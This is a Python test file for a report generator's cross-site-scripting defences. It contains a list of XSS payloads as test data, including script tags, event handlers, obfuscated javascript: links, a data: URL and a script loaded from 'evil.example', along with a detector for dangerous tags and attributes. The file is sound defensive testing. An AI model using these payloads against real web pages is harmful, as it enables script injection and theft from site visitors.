"""Hostile text: script, event handlers and javascript: links never reach a page.

Two walls. The loader refuses raw HTML and unsafe links in every text, at the
exact line and column (`check` and `build` alike). Behind it, the renderer
sanitises Markdown with an allowlist and escapes plain texts, so a gap in the
first wall never becomes script in a reader's browser: that is tested with a
model built past the loader.
"""

from __future__ import annotations

import dataclasses
import html.parser
import re
from pathlib import Path

import pytest

from projects import CANCER, write_project
from reportgen.cli import main
from reportgen.loader import load_project
from reportgen.markdown_text import render_markdown
from reportgen.model import Text
from reportgen.render import Document, render_document, templates_dir
from reportgen.suppression import publish_project

HOSTILE_GROUP = """\
id: hjerte
category: rare
name:
  da: "<script>alert(1)</script>"
  en: Hereditary heart diseases
network: <img src=x onerror=alert(2)>
in_operation_since: 2024-01-15
example_data: true
edition:
  date: 2024-06-28
  status: approved
  changes: "[Se her](javascript:alert(3))"
summary: |
  Et resumé <a href="https://example.org" onclick="alert(4)">link</a>.
indications:
  - code: HJ1
    title: <b onmouseover=alert(5)>Kardiomyopati</b>
    criteria: "<javascript:alert(6)>"
    expected_patients_per_year: 120
statistics:
  as_of: 2024-05-31
  source: NGC driftsdata
  monthly:
    - {month: 2024-01, region: hovedstaden, indication: HJ1, patients: 14, analyses: {germline: 22, somatic: 0, rna: 0}, diagnosed: 4}
cases:
  - title: En familie
    indication: HJ1
    impact: [diagnosis]
    text: |
      [klik][1]

      [1]: javascript:alert(7)
perspectives: "<svg onload=alert(8)>"
"""

_RAW_HTML = ("in the text; HTML is not allowed, use Markdown instead (**bold**, *italic*, "
             "[link text](https://...)), or write '<' with a space after it")
_JS_LINK = "a link starting with 'javascript:'; links may only start with https://, http:// or mailto:"

EXPECTED_PROBLEMS = [
    f"groups/hjerte.yaml:4:8: raw HTML (<script>) {_RAW_HTML}",
    f"groups/hjerte.yaml:4:24: raw HTML (</script>) {_RAW_HTML}",
    f"groups/hjerte.yaml:6:10: raw HTML (<img src=x onerror=alert(2)>) {_RAW_HTML}",
    f"groups/hjerte.yaml:12:13: {_JS_LINK}",
    f'groups/hjerte.yaml:14:13: raw HTML (<a href="https://example.org" ) {_RAW_HTML}',
    f"groups/hjerte.yaml:14:66: raw HTML (</a>) {_RAW_HTML}",
    f"groups/hjerte.yaml:17:12: raw HTML (<b onmouseover=alert(5)>) {_RAW_HTML}",
    f"groups/hjerte.yaml:17:49: raw HTML (</b>) {_RAW_HTML}",
    f"groups/hjerte.yaml:18:16: {_JS_LINK}",
    f"groups/hjerte.yaml:32:12: {_JS_LINK}",
    f"groups/hjerte.yaml:33:16: raw HTML (<svg onload=alert(8)>) {_RAW_HTML}",
]

# What a hostile author could try, in Markdown and in HTML, in several spellings.
HOSTILE_TEXTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(2)">',
    "<svg onload=alert(3)><circle r=1 /></svg>",
    '<a href="javascript:alert(4)" onclick="alert(5)">klik</a>',
    "[klik](javascript:alert(6))",
    "[klik](JaVaScRiPt:alert(7))",
    "[klik]( javascript:alert(8))",
    "[klik][ref]\n\n[ref]: javascript:alert(9)",
    "<javascript:alert(10)>",
    "[klik](&#106;avascript:alert(11))",
    '<p onmouseover="alert(12)" style="x:expression(alert(13))">tekst</p>',
    "<iframe src=\"javascript:alert(14)\"></iframe>",
    "<object data=\"javascript:alert(15)\"></object><embed src=x>",
    '<form action="javascript:alert(16)"><button formaction="javascript:alert(17)">x</button></form>',
    "![billede](javascript:alert(18))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxOSk8L3NjcmlwdD4=">data</a>',
    "<math><mi xlink:href=\"javascript:alert(20)\">x</mi></math>",
    "<!--<script>alert(21)</script>-->",
    "**fed** *kursiv* [NGC](https://www.ngc.dk/) <b onclick=alert(22)>b</b>",
]
HOSTILE = "\n\n".join(HOSTILE_TEXTS)

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster", "background"}
_FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "img", "base"}


class _Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def dangers(page: str) -> list[str]:
    """Everything in `page` that could run script: tags, event handlers, script URLs."""
    found = []
    if re.search(r"<\s*script", page, re.IGNORECASE):
        found.append("'<script' in the source")
    parser = _Tags()
    parser.feed(page)
    parser.close()
    for tag, attrs in parser.tags:
        if tag in _FORBIDDEN_TAGS:
            found.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}=...> event handler")
            if name == "style" and value and "expression" in value.lower():
                found.append(f"<{tag} style> with an expression")
            if name in _URL_ATTRIBUTES and value:
                url = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if url.startswith(("javascript:", "vbscript:", "data:")) and url != "data:,":  # the empty icon
                    found.append(f"<{tag} {name}={value!r}>")
    return found


def test_the_check_finds_what_it_looks_for():
    page = ('<p onclick="x()">a</p><SCRIPT>x()</SCRIPT><a href=" JavaScript:x()">b</a>'
            '<img src=x onerror=x()><a href="https://ngc.dk/">ok</a>')
    assert dangers(page) == [
        "'<script' in the source",
        "<p onclick=...> event handler",
        "<script> element",
        "<a href=' JavaScript:x()'>",
        "<img> element",
        "<img onerror=...> event handler",
    ]


# --- the first wall: the loader -------------------------------------------------


def test_check_reports_every_hostile_text_at_its_line_and_column(tmp_path, capsys, monkeypatch):
    root = write_project(tmp_path, groups={"hjerte": HOSTILE_GROUP, "kraeft": CANCER})
    monkeypatch.chdir(root)
    assert main(["check"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err == EXPECTED_PROBLEMS + ["11 problems in 1 file; nothing was built"]


def test_build_refuses_hostile_texts_and_writes_nothing(tmp_path, capsys, monkeypatch):
    root = write_project(tmp_path, groups={"hjerte": HOSTILE_GROUP, "kraeft": CANCER})
    monkeypatch.chdir(root)
    assert main(["build", "--format", "html", "--jobs", "1"]) == 1
    assert capsys.readouterr().err.splitlines()[:len(EXPECTED_PROBLEMS)] == EXPECTED_PROBLEMS
    assert not (root / "build").exists()


# --- the second wall: sanitising and escaping ---------------------------------------


@pytest.mark.parametrize("text", HOSTILE_TEXTS + [HOSTILE],
                         ids=[f"text{i}" for i in range(len(HOSTILE_TEXTS))] + ["all"])
def test_markdown_never_lets_script_through(text):
    out = str(render_markdown(text))
    assert dangers(out) == []
    lowered = out.lower()
    for word in ("<script", "onerror", "onload", "onclick", "onmouseover", "javascript:"):
        assert word not in lowered, out


def test_markdown_keeps_the_harmless_part():
    out = str(render_markdown(HOSTILE_TEXTS[-1]))
    assert "<strong>fed</strong>" in out
    assert "<em>kursiv</em>" in out
    assert '<a href="https://www.ngc.dk/" rel="noopener noreferrer">NGC</a>' in out


def _hostile_text(model_text: Text | None) -> Text:
    languages = model_text.by_lang if model_text is not None else {"da": "", "en": ""}
    return Text({lang: HOSTILE for lang in languages})


def _hostile_project(root: Path):
    """The tiny project with every text replaced by hostile ones, past the loader's checks."""
    project = load_project(root)
    groups = []
    for g in project.groups:
        groups.append(dataclasses.replace(
            g,
            name=_hostile_text(g.name),
            network=HOSTILE,
            summary=_hostile_text(g.summary),
            perspectives=_hostile_text(g.perspectives),
            edition=dataclasses.replace(g.edition, changes=_hostile_text(g.edition.changes)),
            indications=tuple(dataclasses.replace(i, title=_hostile_text(i.title), criteria=_hostile_text(i.criteria))
                              for i in g.indications),
            cases=tuple(dataclasses.replace(c, title=_hostile_text(c.title), text=_hostile_text(c.text))
                        for c in g.cases),
        ))
    consolidated = {
        key: dataclasses.replace(
            c, title=_hostile_text(c.title), summary=_hostile_text(c.summary),
            perspectives=_hostile_text(c.perspectives),
            sections=tuple(dataclasses.replace(s, title=_hostile_text(s.title), text=_hostile_text(s.text))
                           for s in c.sections))
        for key, c in project.consolidated.items()
    }
    config = dataclasses.replace(
        project.config, title=_hostile_text(project.config.title), publisher=HOSTILE,
        regions={k: dataclasses.replace(r, name=HOSTILE) for k, r in project.config.regions.items()},
        population_source=_hostile_text(project.config.population_source))
    return dataclasses.replace(project, groups=tuple(groups), consolidated=consolidated, config=config)


@pytest.fixture(scope="module")
def hostile_pages(tmp_path_factory) -> dict[str, str]:
    root = write_project(tmp_path_factory.mktemp("hostile"))
    project = _hostile_project(root)
    published = publish_project(project)
    pages = {}
    for document in (Document("group", "hjerte"), Document("group", "kraeft"), Document("consolidated", "rare"),
                     Document("index", "index")):
        for lang in ("da", "en"):
            for medium in ("web", "print"):
                pages[f"{document.key}.{lang}.{medium}"] = render_document(
                    project, published, document, lang, root="", lang_prefix="", other_languages=[],
                    pdf_available=False, templates=templates_dir(root), medium=medium)
    return pages


def test_rendered_pages_hold_the_hostile_texts_only_as_harmless_text(hostile_pages):
    for name, page in hostile_pages.items():
        assert dangers(page) == [], name


def test_plain_texts_are_escaped_where_they_appear(hostile_pages):
    page = hostile_pages["hjerte.da.web"]
    # The group's name is a plain text: shown, escaped, in the page title and its heading.
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert '<h1 class="report-title">&lt;script&gt;alert(1)&lt;/script&gt;' in page
